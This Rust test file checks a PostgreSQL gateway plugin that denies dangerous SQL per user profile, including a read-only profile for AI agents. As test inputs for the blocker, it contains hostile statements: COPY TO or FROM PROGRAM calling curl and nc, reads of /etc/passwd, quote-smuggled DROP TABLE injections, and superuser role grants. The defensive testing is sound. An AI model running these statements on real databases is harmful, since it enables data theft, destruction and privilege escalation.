use super::*;
use pgward_plugin_sdk::testing::TestHarness;

const EXAMPLE: &str = include_str!("../guardrails.toml");

/// Profiles used by most tests: `app` gets the built-in default profile.
const CONFIG: &str = r#"
search_path = ["public"]

[[profiles]]
name = "dba"
groups = ["dba"]
allow_ddl = true
protected = ["public.accounts"]
allow_procedures = ["public.audit_ping"]
allow_functions = ["pg_cancel_backend"]

[[profiles]]
name = "agents"
groups = ["ai-agents"]
read_only = true

[[profiles]]
name = "developers"
groups = ["developers"]
writable = ["scratch.*"]
allow_ddl = true
"#;

struct Fixture {
    h: TestHarness<Guardrails>,
    app: Session,
    dba: Session,
    agent: Session,
    dev: Session,
}

fn fixture(config: &str) -> Fixture {
    let mut h = TestHarness::<Guardrails>::new(config).unwrap();
    let app = h.session("app", &[]);
    let dba = h.session("dana", &["dba"]);
    let agent = h.session("agent", &["ai-agents"]);
    let dev = h.session("dev", &["developers"]);
    Fixture {
        h,
        app,
        dba,
        agent,
        dev,
    }
}

/// The rule that denied `sql`, with the message and hint; panics when it was allowed.
#[track_caller]
fn denied(h: &mut TestHarness<Guardrails>, s: &Session, sql: &str) -> (String, String, String) {
    let v = h.query(s, sql);
    let d = v
        .as_deny()
        .unwrap_or_else(|| panic!("{sql:?} by {}: expected a deny, got {v:?}", s.user()));
    assert_eq!(d.sqlstate, "42501", "{sql}");
    let rule = d
        .message
        .strip_prefix("guardrails: rule \"")
        .and_then(|m| m.split_once('"'))
        .map(|(rule, _)| rule.to_owned())
        .unwrap_or_else(|| panic!("{sql}: message without a rule: {}", d.message));
    let hint = d.hint.clone().unwrap_or_else(|| panic!("{sql}: no hint"));
    (rule, d.message.clone(), hint)
}

#[track_caller]
fn assert_rule(h: &mut TestHarness<Guardrails>, s: &Session, sql: &str, rule: &str) {
    let (got, message, _) = denied(h, s, sql);
    assert_eq!(got, rule, "{sql:?} by {}: {message}", s.user());
}

#[track_caller]
fn assert_allowed(h: &mut TestHarness<Guardrails>, s: &Session, sql: &str) {
    let v = h.query(s, sql);
    assert!(v.is_allow(), "{sql:?} by {}: {v:?}", s.user());
}

#[test]
fn drop_is_denied_with_the_rule_name_and_a_hint() {
    let mut f = fixture(CONFIG);
    let (rule, message, hint) = denied(&mut f.h, &f.app, "DROP TABLE accounts");
    assert_eq!(rule, "no-drop");
    assert_eq!(
        message,
        "guardrails: rule \"no-drop\" denies DROP TABLE on public.accounts"
    );
    assert_eq!(
        hint,
        "profile \"default\" may not drop anything through this gateway"
    );
    let (_, message, hint) = denied(&mut f.h, &f.dba, "DROP TABLE public.accounts");
    assert_eq!(
        message,
        "guardrails: rule \"no-drop\" denies DROP TABLE on public.accounts"
    );
    assert_eq!(
        hint,
        "profile \"dba\" may drop anything except public.accounts"
    );
    assert!(f
        .h
        .logged("rule no-drop denied a statement of dana (profile dba)"));
    assert_allowed(&mut f.h, &f.dba, "DROP TABLE scratch.tmp");
}

#[test]
fn names_match_quoted_unquoted_qualified_and_through_the_search_path() {
    let mut f = fixture(CONFIG);
    for sql in [
        "DROP TABLE accounts",
        "drop table \"accounts\"",
        "DROP TABLE PUBLIC.Accounts",
        "DROP TABLE \"public\".\"accounts\"",
        "DROP TABLE IF EXISTS scratch.x, accounts CASCADE",
        "TRUNCATE public.ACCOUNTS",
    ] {
        let (rule, _, _) = denied(&mut f.h, &f.dba, sql);
        assert!(rule == "no-drop" || rule == "no-truncate", "{sql}: {rule}");
    }
    // A quoted name keeps its case: "Accounts" is another table; so is other.accounts.
    assert_allowed(&mut f.h, &f.dba, "DROP TABLE \"Accounts\"");
    assert_allowed(&mut f.h, &f.dba, "DROP TABLE other.accounts");
    // With another search path, the unqualified name may be either table: fail closed.
    let config = CONFIG.replace(
        "search_path = [\"public\"]",
        "search_path = [\"app\", \"public\"]",
    );
    let mut f = fixture(&config);
    let (_, message, _) = denied(&mut f.h, &f.dba, "DROP TABLE accounts");
    assert!(message.ends_with("on public.accounts"), "{message}");
}

#[test]
fn dropping_a_schema_or_database_reaches_protected_tables() {
    let mut f = fixture(CONFIG);
    assert_rule(&mut f.h, &f.dba, "DROP SCHEMA public CASCADE", "no-drop");
    assert_rule(&mut f.h, &f.dba, "DROP DATABASE app", "no-drop");
    assert_allowed(&mut f.h, &f.dba, "DROP SCHEMA scratch CASCADE");
    let (_, message, _) = denied(&mut f.h, &f.app, "DROP SCHEMA public");
    assert_eq!(
        message,
        "guardrails: rule \"no-drop\" denies DROP SCHEMA on public"
    );
}

#[test]
fn update_and_delete_need_a_where_clause_that_selects_rows() {
    let mut f = fixture(CONFIG);
    for sql in [
        "DELETE FROM accounts",
        "UPDATE accounts SET balance = 0",
        "DELETE FROM accounts WHERE 1=1",
        "DELETE FROM accounts WHERE true",
        "UPDATE accounts SET balance = 0 WHERE 'a' = 'a'",
        "DELETE FROM accounts WHERE NOT false OR id = 1",
        "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone",
        "COPY (DELETE FROM accounts RETURNING *) TO STDOUT",
        "EXPLAIN ANALYZE DELETE FROM accounts",
        "EXPLAIN (ANALYZE) UPDATE accounts SET balance = 0 WHERE 1 = 1",
        "PREPARE wipe AS DELETE FROM accounts",
    ] {
        for s in [&f.app, &f.dba] {
            assert_rule(&mut f.h, s, sql, "unbounded-write");
        }
    }
    let (_, message, hint) = denied(
        &mut f.h,
        &f.app,
        "COPY (DELETE FROM accounts RETURNING *) TO STDOUT",
    );
    assert_eq!(
        message,
        "guardrails: rule \"unbounded-write\" denies DELETE on public.accounts inside COPY without a WHERE clause"
    );
    assert_eq!(hint, "add a WHERE clause that selects the rows to change");
    assert_allowed(&mut f.h, &f.app, "DELETE FROM accounts WHERE id = 3");
    assert_allowed(
        &mut f.h,
        &f.app,
        "UPDATE accounts SET balance = balance + 1 WHERE id = $1",
    );
    assert_allowed(&mut f.h, &f.app, "EXPLAIN DELETE FROM accounts");
    let mut h = TestHarness::<Guardrails>::new(
        "[[profiles]]\nname = \"batch\"\nallow_unbounded_writes = true",
    )
    .unwrap();
    let s = h.session("batch", &[]);
    assert_allowed(&mut h, &s, "DELETE FROM staging_rows");
}

#[test]
fn hidden_writes_count_and_sql_in_strings_or_comments_does_not() {
    let mut f = fixture(CONFIG);
    for sql in [
        "WITH x AS (UPDATE accounts SET balance = 0 WHERE id = 1 RETURNING *) SELECT * FROM x",
        "MERGE INTO accounts a USING src s ON a.id = s.id WHEN MATCHED THEN DELETE",
        "COPY (DELETE FROM accounts WHERE id = 1 RETURNING *) TO STDOUT",
        "EXPLAIN ANALYZE DELETE FROM accounts WHERE id = 1",
        "SELECT * INTO stash FROM accounts",
        "CREATE TABLE stash AS SELECT * FROM accounts",
        "PREPARE p AS INSERT INTO accounts VALUES ($1)",
        "COPY accounts FROM STDIN",
        "SELECT nextval('accounts_id_seq')",
        "LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE",
    ] {
        assert_rule(&mut f.h, &f.agent, sql, "read-only");
    }
    for sql in [
        "SELECT * FROM accounts WHERE id = 1",
        "EXPLAIN DELETE FROM accounts",
        "EXPLAIN UPDATE accounts SET balance = 0",
        "SELECT 'DROP TABLE accounts'",
        "SELECT $$DELETE FROM accounts$$",
        "SELECT $x$ TRUNCATE accounts $x$",
        "SELECT E'\\'; DROP TABLE accounts; --'",
        "-- DROP TABLE accounts\nSELECT 1",
        "SELECT 1 /* TRUNCATE accounts */",
        "COPY accounts TO STDOUT",
        "COPY (SELECT * FROM accounts) TO STDOUT WITH (FORMAT csv)",
        "BEGIN READ ONLY",
        "SHOW search_path",
    ] {
        assert_allowed(&mut f.h, &f.agent, sql);
    }
    let (_, _, hint) = denied(&mut f.h, &f.agent, "INSERT INTO accounts VALUES (1)");
    assert!(
        hint.starts_with("profile \"agents\" is read-only"),
        "{hint}"
    );
}

#[test]
fn quoting_tricks_cannot_hide_a_statement() {
    let mut f = fixture(CONFIG);
    for sql in [
        // E'\\' is one backslash: the DROP is a statement of its own.
        "SELECT E'\\\\'; DROP TABLE accounts; --'",
        // The dollar quote is tagged: $$ inside it is text, and it ends before the DROP.
        "SELECT $a$ $$ $a$; DROP TABLE accounts; -- $$",
        // Block comments nest in PostgreSQL.
        "SELECT 1 /* outer /* inner */ still a comment */; DROP TABLE accounts",
        "SELECT '--'; DROP TABLE accounts",
        "SELECT 1; -- comment\nDROP TABLE accounts",
        "DROP/**/TABLE/**/accounts",
    ] {
        assert_rule(&mut f.h, &f.app, sql, "no-drop");
    }
    // Where the text ends depends on a setting: unknown, so denied.
    assert_rule(
        &mut f.h,
        &f.app,
        "SELECT '\\'; DROP TABLE accounts; --'",
        "unknown-statement",
    );
}

#[test]
fn every_statement_of_a_string_is_judged() {
    let mut f = fixture(CONFIG);
    let (_, message, _) = denied(
        &mut f.h,
        &f.app,
        "SELECT 1; UPDATE accounts SET balance = 1 WHERE id = 1; TRUNCATE accounts; SELECT 2",
    );
    assert!(message.contains("\"no-truncate\""), "{message}");
    assert_rule(
        &mut f.h,
        &f.app,
        "BEGIN; DELETE FROM accounts; COMMIT",
        "unbounded-write",
    );
    assert_allowed(
        &mut f.h,
        &f.app,
        "BEGIN; UPDATE accounts SET balance = 1 WHERE id = 1; COMMIT",
    );
}

#[test]
fn writes_stay_in_the_profile_scope() {
    let mut f = fixture(CONFIG);
    for sql in [
        "INSERT INTO accounts VALUES (9)",
        "DELETE FROM public.accounts WHERE id = 1",
        "UPDATE \"accounts\" SET balance = 0 WHERE id = 1",
        "WITH x AS (UPDATE accounts SET balance = 0 WHERE id > 0 RETURNING 1) SELECT * FROM scratch.t",
        "CREATE TABLE public.t (id int)",
        "CREATE RULE r AS ON INSERT TO scratch.t DO ALSO DELETE FROM accounts",
        "CREATE SCHEMA billing",
    ] {
        assert_rule(&mut f.h, &f.dev, sql, "write-scope");
    }
    let (_, message, hint) = denied(&mut f.h, &f.dev, "INSERT INTO accounts VALUES (9)");
    assert_eq!(
        message,
        "guardrails: rule \"write-scope\" denies INSERT on public.accounts"
    );
    assert_eq!(hint, "profile \"developers\" may write only to scratch.*");
    for sql in [
        "INSERT INTO scratch.t VALUES (1)",
        "CREATE TABLE scratch.t (id int)",
        "CREATE INDEX ON scratch.t (id)",
        "UPDATE scratch.t SET id = 2 WHERE id = 1",
        "INSERT INTO scratch.t SELECT id FROM accounts",
        "CREATE SCHEMA scratch",
    ] {
        assert_allowed(&mut f.h, &f.dev, sql);
    }
    // An unqualified name must be writable in every schema of the path.
    let config = CONFIG.replace(
        "search_path = [\"public\"]",
        "search_path = [\"scratch\", \"public\"]",
    );
    let mut f = fixture(&config);
    assert_rule(&mut f.h, &f.dev, "INSERT INTO t VALUES (1)", "write-scope");
}

#[test]
fn ddl_is_for_profiles_with_ddl_rights_and_the_hint_names_them() {
    let mut f = fixture(CONFIG);
    for sql in [
        "CREATE TABLE t (id int)",
        "ALTER TABLE accounts DROP COLUMN balance",
        "ALTER TABLE accounts RENAME TO old_accounts",
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM accounts'",
        "CREATE TRIGGER t BEFORE INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
        "COMMENT ON TABLE accounts IS 'x'",
        "GRANT ALL ON accounts TO PUBLIC",
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public",
        "CREATE INDEX ON accounts (id)",
        "SELECT * INTO stash FROM accounts",
        "CREATE EXTENSION dblink",
    ] {
        assert_rule(&mut f.h, &f.app, sql, "ddl");
    }
    let (_, message, hint) = denied(
        &mut f.h,
        &f.app,
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM accounts'",
    );
    assert_eq!(
        message,
        "guardrails: rule \"ddl\" denies CREATE FUNCTION on public.wipe"
    );
    assert_eq!(
        hint,
        "profile \"default\" has no DDL rights; DDL is allowed for dba (profile \"dba\"); \
         developers (profile \"developers\")"
    );
    for sql in [
        "CREATE TABLE t (id int)",
        "ALTER TABLE accounts ADD COLUMN note text",
        "CREATE INDEX ON accounts (id)",
        "GRANT SELECT ON accounts TO reporting",
    ] {
        assert_allowed(&mut f.h, &f.dba, sql);
    }
}

#[test]
fn dangerous_functions_are_denied_however_they_are_named() {
    let mut f = fixture(CONFIG);
    for sql in [
        "SELECT pg_terminate_backend(42)",
        "SELECT PG_CATALOG.pg_read_file('/etc/passwd')",
        "SELECT lo_export(0, '/tmp/x')",
        "SELECT * FROM dblink('dbname=x', 'DELETE FROM accounts') AS t(x int)",
        "SELECT pg_catalog.set_config('role', 'postgres', false)",
        "SELECT count(*) FROM pg_stat_activity WHERE pg_cancel_backend(pid)",
        "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
    ] {
        assert_rule(&mut f.h, &f.app, sql, "dangerous-function");
    }
    let (_, message, _) = denied(&mut f.h, &f.app, "SELECT pg_terminate_backend(42)");
    assert_eq!(
        message,
        "guardrails: rule \"dangerous-function\" denies calling pg_terminate_backend"
    );
    // dba may cancel queries, nothing else on the list.
    assert_allowed(&mut f.h, &f.dba, "SELECT pg_cancel_backend(42)");
    assert_rule(
        &mut f.h,
        &f.dba,
        "SELECT pg_terminate_backend(42)",
        "dangerous-function",
    );
    assert_allowed(
        &mut f.h,
        &f.app,
        "SELECT lower(name), now(), pg_sleep(0) FROM accounts",
    );
    // The list can be replaced.
    let mut h =
        TestHarness::<Guardrails>::new("dangerous_functions = [\"public.launch\"]").unwrap();
    let s = h.session("app", &[]);
    assert!(h.query(&s, "SELECT pg_terminate_backend(1)").is_allow());
    assert!(h.query(&s, "SELECT launch()").is_deny());
}

#[test]
fn the_session_keeps_its_identity_and_search_path() {
    let mut f = fixture(CONFIG);
    for sql in [
        "SET ROLE postgres",
        "SET LOCAL ROLE postgres",
        "SET role = 'postgres'",
        "SET SESSION AUTHORIZATION postgres",
        "set session_authorization = 'postgres'",
        "CREATE ROLE intruder SUPERUSER",
        "ALTER ROLE pgward_gw SUPERUSER",
        "GRANT postgres TO pgward_gw",
        "DROP ROLE app",
    ] {
        assert_rule(&mut f.h, &f.dba, sql, "role-change");
    }
    let (_, message, _) = denied(&mut f.h, &f.dba, "GRANT postgres TO pgward_gw");
    assert_eq!(
        message,
        "guardrails: rule \"role-change\" denies GRANT of role postgres"
    );
    assert_allowed(&mut f.h, &f.app, "RESET ROLE");
    for sql in [
        "SET search_path = scratch, public",
        "SET LOCAL \"search_path\" TO 'billing'",
        "SELECT 1; SET SESSION search_path TO x",
    ] {
        assert_rule(&mut f.h, &f.app, sql, "search-path");
    }
    assert_rule(
        &mut f.h,
        &f.app,
        "SET SCHEMA 'billing'",
        "unknown-statement",
    );
    for sql in [
        "SET statement_timeout = '5s'",
        "SET TIME ZONE 'UTC'",
        "SET application_name = 'x'",
        "RESET ALL",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    ] {
        assert_allowed(&mut f.h, &f.app, sql);
    }
}

#[test]
fn a_profile_that_moves_the_search_path_matches_unqualified_names_anywhere() {
    let config = r#"
[[profiles]]
name = "tools"
allow_search_path_changes = true
allow_ddl = true
protected = ["billing.invoices"]
writable = ["scratch.*", "notes"]
"#;
    let mut h = TestHarness::<Guardrails>::new(config).unwrap();
    let s = h.session("tool", &[]);
    assert!(h.query(&s, "SET search_path = billing, public").is_allow());
    // `invoices` may now be billing.invoices.
    assert_rule(&mut h, &s, "DROP TABLE invoices", "no-drop");
    // `t` may be outside scratch; `notes` is writable in any schema.
    assert_rule(&mut h, &s, "INSERT INTO t VALUES (1)", "write-scope");
    assert_allowed(&mut h, &s, "INSERT INTO notes VALUES (1)");
    assert_allowed(&mut h, &s, "INSERT INTO scratch.t VALUES (1)");
}

#[test]
fn copy_through_the_server_is_denied() {
    let mut f = fixture(CONFIG);
    assert_rule(
        &mut f.h,
        &f.dba,
        "COPY accounts FROM PROGRAM 'curl evil'",
        "copy-program",
    );
    assert_rule(
        &mut f.h,
        &f.dba,
        "COPY (SELECT * FROM accounts) TO PROGRAM 'nc x 1'",
        "copy-program",
    );
    assert_rule(
        &mut f.h,
        &f.dba,
        "COPY accounts TO '/tmp/a.csv'",
        "server-file",
    );
    assert_rule(
        &mut f.h,
        &f.dba,
        "COPY scratch.t FROM '/etc/passwd'",
        "server-file",
    );
    let (_, _, hint) = denied(&mut f.h, &f.dba, "COPY accounts TO '/tmp/a.csv'");
    assert!(hint.contains("STDIN"), "{hint}");
    assert_allowed(&mut f.h, &f.dba, "COPY scratch.t FROM STDIN");
    assert_allowed(&mut f.h, &f.app, "COPY accounts TO STDOUT");
}

#[test]
fn statements_whose_effect_cannot_be_known_are_denied() {
    let mut f = fixture(CONFIG);
    assert_rule(
        &mut f.h,
        &f.dba,
        "DO $$ BEGIN DELETE FROM accounts; END $$",
        "do-block",
    );
    for sql in [
        "VACUUM (ANALYZE) accounts",
        "DROP OWNED BY app",
        "REINDEX TABLE accounts",
        "ALTER SYSTEM SET fsync = off",
        "SELECT 1 'unterminated",
    ] {
        assert_rule(&mut f.h, &f.dba, sql, "unknown-statement");
    }
    let (_, message, hint) = denied(&mut f.h, &f.dba, "REINDEX TABLE accounts");
    assert_eq!(
        message,
        "guardrails: rule \"unknown-statement\" denies REINDEX, which the gateway could not analyse"
    );
    assert!(hint.contains("pgward explain"), "{hint}");
    assert_rule(&mut f.h, &f.app, "CALL wipe_accounts()", "call");
    assert_rule(&mut f.h, &f.dba, "CALL wipe_accounts()", "call");
    assert_rule(&mut f.h, &f.dba, "CALL other.audit_ping()", "call");
    assert_allowed(&mut f.h, &f.dba, "CALL audit_ping()");
    assert_allowed(&mut f.h, &f.dba, "CALL public.audit_ping(now())");
    let (_, _, hint) = denied(&mut f.h, &f.dba, "CALL wipe_accounts()");
    assert_eq!(hint, "profile \"dba\" may call only public.audit_ping");
    let mut h = TestHarness::<Guardrails>::new(
        "[[profiles]]\nname = \"all\"\nallow_do = true\nallow_unknown = true",
    )
    .unwrap();
    let s = h.session("x", &[]);
    assert!(h.query(&s, "DO $$ BEGIN END $$").is_allow());
    assert!(h.query(&s, "REINDEX TABLE t").is_allow());
}

#[test]
fn execute_runs_only_what_was_checked_at_prepare() {
    let mut f = fixture(CONFIG);
    let other = f.h.session("app", &[]);
    assert_rule(&mut f.h, &f.app, "EXECUTE wipe", "execute");
    // A denied PREPARE does not make its name executable.
    assert_rule(
        &mut f.h,
        &f.app,
        "PREPARE wipe AS DELETE FROM accounts",
        "unbounded-write",
    );
    assert_rule(&mut f.h, &f.app, "EXECUTE wipe", "execute");
    assert_allowed(
        &mut f.h,
        &f.app,
        "PREPARE one (int) AS SELECT * FROM accounts WHERE id = $1",
    );
    assert_allowed(&mut f.h, &f.app, "EXECUTE one(1)");
    assert_allowed(&mut f.h, &f.app, "EXPLAIN ANALYZE EXECUTE one(1)");
    assert_allowed(&mut f.h, &f.app, "EXPLAIN EXECUTE wipe");
    assert_rule(&mut f.h, &f.app, "EXPLAIN ANALYZE EXECUTE wipe", "execute");
    // Names are per session, and quoted names keep their case.
    assert_rule(&mut f.h, &other, "EXECUTE one(1)", "execute");
    assert_allowed(
        &mut f.h,
        &f.app,
        "PREPARE \"Two\" AS SELECT 2; EXECUTE \"Two\"",
    );
    assert_rule(&mut f.h, &f.app, "EXECUTE two", "execute");
    // A string with a denied statement prepares nothing.
    assert_rule(
        &mut f.h,
        &f.app,
        "PREPARE three AS SELECT 3; DROP TABLE accounts",
        "no-drop",
    );
    assert_rule(&mut f.h, &f.app, "EXECUTE three", "execute");
    assert_allowed(&mut f.h, &f.app, "DEALLOCATE one");
    assert_rule(&mut f.h, &f.app, "EXECUTE one(1)", "execute");
    assert_allowed(&mut f.h, &f.app, "DISCARD ALL");
    assert_rule(&mut f.h, &f.app, "EXECUTE \"Two\"", "execute");
    // Through the extended protocol too.
    assert_allowed(&mut f.h, &f.app, "PREPARE four AS SELECT 4");
    assert!(f.h.query_extended(&f.app, "EXECUTE four").is_allow());
    assert!(f.h.query_extended(&f.app, "EXECUTE five").is_deny());
}

#[test]
fn the_first_profile_naming_the_session_applies() {
    let config = r#"
[[profiles]]
name = "ops-alice"
users = ["alice"]
allow_ddl = true

[[profiles]]
name = "agents"
groups = ["ai-agents"]
read_only = true

[[profiles]]
name = "others"
writable = ["scratch.*"]
"#;
    let mut h = TestHarness::<Guardrails>::new(config).unwrap();
    let alice = h.session("alice", &["ai-agents"]);
    let agent = h.session("bot", &["ai-agents"]);
    let bob = h.session("bob", &["staff"]);
    assert_allowed(&mut h, &alice, "CREATE TABLE t (id int)");
    assert_rule(&mut h, &agent, "CREATE TABLE t (id int)", "read-only");
    assert_rule(&mut h, &bob, "INSERT INTO t VALUES (1)", "write-scope");
    assert_allowed(&mut h, &bob, "INSERT INTO scratch.t VALUES (1)");
}

#[test]
fn harmless_statements_pass_for_the_default_profile() {
    let mut h = TestHarness::<Guardrails>::new("").unwrap();
    let s = h.session("app", &[]);
    for sql in [
        "SELECT 1",
        "SELECT * FROM accounts a JOIN orders o ON o.account_id = a.id WHERE a.id = 1",
        "WITH t AS (SELECT id FROM accounts) SELECT count(*) FROM t",
        "VALUES (1), (2)",
        "INSERT INTO accounts (name) VALUES ('DROP TABLE accounts') RETURNING id",
        "INSERT INTO orders SELECT * FROM staging ON CONFLICT DO NOTHING",
        "UPDATE accounts SET balance = balance - 10 WHERE id = 7",
        "DELETE FROM sessions WHERE expires_at < now()",
        "DELETE FROM accounts WHERE id IN (SELECT id FROM accounts WHERE closed)",
        "MERGE INTO accounts a USING src s ON a.id = s.id WHEN MATCHED THEN UPDATE SET balance = s.balance",
        "BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT 1; COMMIT",
        "SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1; RELEASE SAVEPOINT s1",
        "DECLARE c CURSOR FOR SELECT * FROM accounts; FETCH 10 FROM c; CLOSE c",
        "LISTEN jobs; NOTIFY jobs, 'x'; UNLISTEN jobs",
        "SHOW ALL",
        "EXPLAIN SELECT * FROM accounts",
        "EXPLAIN ANALYZE SELECT * FROM accounts",
        "COPY accounts TO STDOUT WITH (FORMAT csv, HEADER)",
        "COPY staging FROM STDIN",
        "SELECT now(), current_user, version(), txid_current()",
        "SELECT * FROM generate_series(1, 3)",
        "SELECT pg_advisory_xact_lock(1)",
        "ANALYZE accounts",
        "REFRESH MATERIALIZED VIEW report",
        "DISCARD ALL",
    ] {
        assert_allowed(&mut h, &s, sql);
        assert!(h.query_extended(&s, sql.split(';').next().unwrap()).is_allow(), "{sql}");
    }
}

#[test]
fn the_example_config_loads_and_guards_the_demo_schema() {
    let mut h = TestHarness::<Guardrails>::new(EXAMPLE).unwrap();
    let alice = h.session("alice", &["developers"]);
    let bob = h.session("bob", &["support-lead"]);
    let agent = h.session("agent", &["ai-agents"]);
    let dba = h.session("dana", &["dba"]);
    let stranger = h.session("eve", &[]);
    // The README shows these refusals.
    let (_, message, hint) = denied(&mut h, &alice, "DROP TABLE customers");
    assert_eq!(
        message,
        "guardrails: rule \"no-drop\" denies DROP TABLE on public.customers"
    );
    assert_eq!(
        hint,
        "profile \"developers\" may not drop anything through this gateway"
    );
    let (_, message, hint) = denied(
        &mut h,
        &alice,
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    );
    assert_eq!(
        message,
        "guardrails: rule \"unbounded-write\" denies DELETE on public.orders inside SELECT \
         without a WHERE clause"
    );
    assert_eq!(hint, "add a WHERE clause that selects the rows to change");
    assert_allowed(
        &mut h,
        &alice,
        "UPDATE orders SET status = 'paid' WHERE id = 2",
    );
    assert_rule(&mut h, &alice, "DELETE FROM orders", "unbounded-write");
    assert_rule(
        &mut h,
        &bob,
        "UPDATE orders SET status = 'x' WHERE id = 1",
        "write-scope",
    );
    assert_allowed(
        &mut h,
        &bob,
        "UPDATE customers SET phone = NULL WHERE id = 1",
    );
    assert_rule(
        &mut h,
        &agent,
        "UPDATE customers SET phone = NULL WHERE id = 1",
        "read-only",
    );
    assert_allowed(&mut h, &agent, "SELECT name, email FROM customers");
    assert_rule(&mut h, &dba, "TRUNCATE orders", "no-truncate");
    assert_allowed(&mut h, &dba, "CREATE TABLE audit_copy (id int)");
    assert_allowed(&mut h, &dba, "SELECT pg_terminate_backend(1)");
    assert_rule(
        &mut h,
        &stranger,
        "INSERT INTO orders VALUES (1)",
        "read-only",
    );
}

#[test]
fn bad_configs_are_refused_with_the_key_named() {
    let err = |text: &str| TestHarness::<Guardrails>::new(text).err().unwrap();
    let e = err("[[profiles]]\nname = \"x\"\nread_only = true\nallow_dll = true");
    assert!(e.contains("allow_dll"), "{e}");
    let e = err("serach_path = [\"public\"]");
    assert!(e.contains("serach_path"), "{e}");
    let e = err("[[profiles]]\nname = \"x\"\nwritable = [\"a.b.c\"]");
    assert!(e.contains("key `writable`") && e.contains("a.b.c"), "{e}");
    let e = err("search_path = []");
    assert!(e.contains("search_path"), "{e}");
    let e = err("[[profiles]]\ngroups = [\"x\"]");
    assert!(e.contains("profiles[0]: name is required"), "{e}");
    let e = err("[[profiles]]\nname = \"x\"\n[[profiles]]\nname = \"x\"");
    assert!(e.contains("used twice"), "{e}");
    let e = err("[[profiles]]\nname = \"x\"\nread_only = true\nallow_ddl = true");
    assert!(e.contains("contradict"), "{e}");
}

/// Verdicts that follow from the statement's shape and the profile are marked cacheable;
/// those that read or change the prepared statements guardrails tracks per session are not, so
/// the gateway asks again every time.
#[test]
fn only_verdicts_independent_of_session_state_are_cacheable() {
    let Fixture { mut h, agent, .. } = fixture(CONFIG);
    for sql in [
        "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
        "DROP TABLE billing.invoices",
        "UPDATE billing.invoices SET paid = true WHERE id = 2",
    ] {
        h.query(&agent, sql);
        assert!(h.cacheable(), "{sql}");
    }
    for sql in [
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "EXPLAIN ANALYZE EXECUTE p",
        "DEALLOCATE p",
        "DISCARD ALL",
        "SELECT 1; PREPARE q AS SELECT 2",
    ] {
        h.query(&agent, sql);
        assert!(!h.cacheable(), "{sql}");
    }
    // What the cache must not answer: EXECUTE depends on the PREPARE this session saw.
    let other = h.session("agent", &["ai-agents"]);
    assert!(h.query(&agent, "PREPARE r AS SELECT 1").as_deny().is_none());
    assert!(h.query(&agent, "EXECUTE r").as_deny().is_none());
    assert!(h.query(&other, "EXECUTE r").as_deny().is_some());
}
